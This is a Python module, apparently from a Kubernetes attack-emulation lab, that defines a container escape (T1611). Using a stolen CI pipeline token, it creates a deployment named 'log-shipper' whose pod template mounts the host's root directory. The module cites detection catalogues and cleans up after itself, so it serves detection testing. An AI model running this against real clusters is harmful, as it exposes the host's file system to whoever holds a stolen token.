"""Attack: host's file system mounted by a deployment.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, cast, context, paths

CARD = base.Card(
    id="hostpath-deployment",
    title="Host's file system mounted by a deployment",
    technique=base.Technique(id="T1611", name="Escape to Host", tactic="Privilege Escalation"),
    use_case=vocabulary.UseCase.PRIVILEGE_ESCALATION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Deploys a workload through the pipeline's token whose pod template mounts the host's root directory; "
        "the pod itself is made by a controller."
    ),
    seen_by=("The pod template, not a pod, carries the hostPath volume; the pipeline is to blame, not the controller."),
    cleans_up="The deployment is deleted.",
    victim=base.Part.CI,
    catalogues=(
        "Microsoft: Writable hostPath mount",
        "stratus:k8s.privilege-escalation.hostpath-volume",
        "GuardDuty: ContainerWithSensitiveMount",
    ),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim)
    name = ctx.name("log-shipper")
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    deployments = paths.group("apps/v1", "deployments", namespace)
    ctx.remove_later(f"{deployments}/{name}")
    body = cast.deployment(name, "docker.io/library/busybox:1.37")
    pod = body["spec"]["template"]["spec"]  # type: ignore[index]
    pod["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
    pod["containers"][0]["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
    yield thief.create(deployments, body)
    yield thief.get(f"{deployments}/{name}")


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
